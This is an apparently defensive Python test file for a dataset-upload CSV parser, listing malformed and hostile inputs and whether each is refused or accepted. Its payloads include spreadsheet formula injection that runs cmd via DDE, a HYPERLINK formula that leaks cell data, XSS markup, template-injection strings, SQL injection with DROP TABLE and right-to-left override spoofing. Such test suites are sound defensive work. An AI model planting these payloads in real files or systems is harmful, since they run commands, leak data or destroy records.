"""CSV: open quotes, endless cells, columns and lines, and what a spreadsheet would run."""

from __future__ import annotations

from collections.abc import Iterator

from datasets_app.tests.hostile.cases import Hostile, accepted, refused

HEADER = b"prompt,completion\n"
ROW = b"a question,an answer\n"


def _columns(count: int) -> bytes:
    names = b",".join(b"c%d" % index for index in range(count))
    return names + b"\n" + b",".join([b"x"] * count) + b"\n"


def _cells_over_lines() -> Iterator[bytes]:
    """A row that never ends although none of its cells is too long."""
    yield HEADER
    for _ in range(200):
        yield b'"' + (b"x" * 99 + b"\n") * 300 + b'",'


FORMULAS = (
    b'=HYPERLINK("http://example.org?x="&A1)',
    b"=cmd|' /C calc'!A0",
    b"+1+cmd|' /C calc'!A0",
    b"-2+3+cmd|' /C calc'!A0",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"\t=1+1",
    b"\xef\xbc\x9d1+1",
)


def _formulas() -> bytes:
    rows = [
        b'"%s","%s"\n' % (cell.replace(b'"', b'""'), cell.replace(b'"', b'""')) for cell in FORMULAS
    ]
    return HEADER + b"".join(rows)


FORMULA_FILE = accepted("cells that a spreadsheet would run", _formulas(), "data.csv")
QUOTES = [
    refused(
        "a quote that is never closed",
        HEADER + ROW + b'c,"d\ne,f\n',
        "csv_open_quote",
        3,
        "data.csv",
    ),
    refused(
        "a quote that is never closed in the header",
        b'prompt,"completion\na,b\n',
        "csv_open_quote",
        1,
        "data.csv",
    ),
    refused(
        "an open quote before 300 KB",
        HEADER + b'a,"' + b"line\n" * 60_000,
        "csv_long_cell",
        2,
        "data.csv",
    ),
    refused(
        "an open quote before 3 MB",
        HEADER + b'a,"' + b"line\n" * 600_000,
        "csv_long_cell",
        2,
        "data.csv",
    ),
    refused("text after a closing quote", HEADER + b'a,"b"c\n', "csv_after_quote", 2, "data.csv"),
    refused("an odd number of quotes", HEADER + b'a,"""\n', "csv_open_quote", 2, "data.csv"),
    refused(
        "200,000 quotes in a cell",
        HEADER + b'a,"' + b'""' * 100_000 + b'"\n',
        "csv_long_cell",
        2,
        "data.csv",
    ),
    refused("quotes alone", b'"' * 100_000, "columns", 1, "data.csv"),
    refused(
        "a megabyte of quotes in turn with commas",
        b'"",' * 350_000,
        "record_too_long",
        1,
        "data.csv",
    ),
    refused("a row of cells over many lines", _cells_over_lines, "ragged", 2, "data.csv"),
    accepted("quotes inside quotes", HEADER + b'"a ""b"" c","""d"""\n', "data.csv"),
]
CELLS = [
    refused(
        "a cell of 70 KB", HEADER + b"a," + b"x" * 70_000 + b"\n", "csv_long_cell", 2, "data.csv"
    ),
    refused(
        "a line of 3 MB",
        HEADER + b"a," + b"x" * 3_000_000 + b"\n",
        "record_too_long",
        2,
        "data.csv",
    ),
    refused("300 columns", b"text," + _columns(300), "too_many_columns", 1, "data.csv"),
    refused("10,000 columns", b"text," + _columns(10_000), "too_many_columns", 1, "data.csv"),
    refused(
        "10,000 empty columns", b"text" + b"," * 10_000 + b"\n", "too_many_columns", 1, "data.csv"
    ),
    refused("10,000 cells in a row", HEADER + b"x," * 10_000 + b"\n", "ragged", 2, "data.csv"),
    refused("a cell too few", HEADER + ROW + b"a\n", "ragged", 3, "data.csv"),
    refused("a cell too many", HEADER + b"a,b,c\n", "ragged", 2, "data.csv"),
    refused(
        "rows of other widths, 20,000 times", HEADER + b"a,b,c\n" * 20_000, "ragged", 2, "data.csv"
    ),
    refused("a NUL in a cell", HEADER + ROW + b"a,b\x00c\n", "nul", 3, "data.csv"),
    refused("a NUL in the header", b"prompt,comp\x00letion\na,b\n", "nul", 1, "data.csv"),
    refused("an empty cell", HEADER + b"a,\n", "empty_field", 2, "data.csv"),
    refused(
        "cells of ideographic spaces",
        HEADER + "質問,\u3000\u3000\n".encode(),
        "empty_field",
        2,
        "data.csv",
    ),
    refused(
        "JSON in a cell that is cut",
        b'messages\n"[{""role"": ""user"""\n',
        "bad_messages",
        2,
        "data.csv",
    ),
    refused("JSON in a cell with NaN", b'messages\n"[NaN]"\n', "bad_messages", 2, "data.csv"),
    refused(
        "JSON in a cell nested 5,000 deep",
        b"messages\n" + b"[" * 5000 + b"]" * 5000 + b"\n",
        "bad_messages",
        2,
        "data.csv",
    ),
    refused(
        "a number of 5,000 digits in JSON in a cell",
        b"messages\n[" + b"9" * 5000 + b"]\n",
        "bad_messages",
        2,
        "data.csv",
    ),
]
HEADERS = [
    refused("no header", b"Why?,Because.\nHow?,So.\n", "columns", 1, "data.csv"),
    refused("a header only", HEADER, "no_records", None, "data.csv"),
    refused("a header and blank lines", HEADER + b"\n" * 1000, "no_records", None, "data.csv"),
    refused("a header and rows of commas", HEADER + b",\n" * 1000, "no_records", None, "data.csv"),
    refused("a column twice", b"text,text\na,b\n", "duplicate_column", 1, "data.csv"),
    refused(
        "a column twice in other width",
        "text,ｔｅｘｔ\na,b\n".encode(),
        "duplicate_column",
        1,
        "data.csv",
    ),
    refused("a column 200 times", b"text," * 200 + b"x\n", "duplicate_column", 1, "data.csv"),
    refused("one half of a pair", b"prompt,other\na,b\n", "columns", 1, "data.csv"),
    refused(
        "a page of HTML", b"<!doctype html>\n<title>Sign in</title>\n", "columns", 1, "data.csv"
    ),
    refused(
        "a mark between joined files",
        HEADER + ROW + b"\xef\xbb\xbf" + ROW,
        "byte_order_mark",
        3,
        "data.csv",
    ),
    refused(
        "a SQL dump", b"INSERT INTO t VALUES (1, 'a');\nDROP TABLE t;\n", "columns", 1, "data.csv"
    ),
]
LINES = [
    refused("commas only", b"," * 1000, "no_records", None, "data.csv"),
    refused(
        "two million blank lines after a header",
        HEADER + b"\n" * 2_000_000,
        "no_records",
        None,
        "data.csv",
    ),
    refused("a million carriage returns", b"\r" * 1_000_000, "empty", None, "data.csv"),
    accepted("carriage returns only", HEADER.replace(b"\n", b"\r") + b"a,b\rc,d\r", "data.csv"),
    accepted("20,000 tiny rows", HEADER + b"a,b\n" * 20_000, "data.csv"),
    accepted("line ends of all kinds", b"prompt,completion\r\na,b\rc,d\ne,f", "data.csv"),
]
TEXTS = [
    FORMULA_FILE,
    accepted(
        "direction marks",
        HEADER + "say \u202etxt.exe\u202c,\u2067right\u2069 to left\n".encode(),
        "data.csv",
    ),
    accepted(
        "markup", HEADER + b"<script>alert(1)</script>,<img src=x onerror=alert(1)>\n", "data.csv"
    ),
    accepted(
        "template tags",
        HEADER + b"{{ request.user }},{% debug %} ${7*7} #{7*7} %(x)s\n",
        "data.csv",
    ),
    accepted(
        "escape codes of a terminal",
        HEADER + b"\x1b[31mred\x1b[0m,\x1b]0;title\x07 done\n",
        "data.csv",
    ),
    accepted(
        "a query that ends another", HEADER + b"'; DROP TABLE datasets; --,x\" OR 1=1\n", "data.csv"
    ),
]
CASES: list[Hostile] = [*QUOTES, *CELLS, *HEADERS, *LINES, *TEXTS]
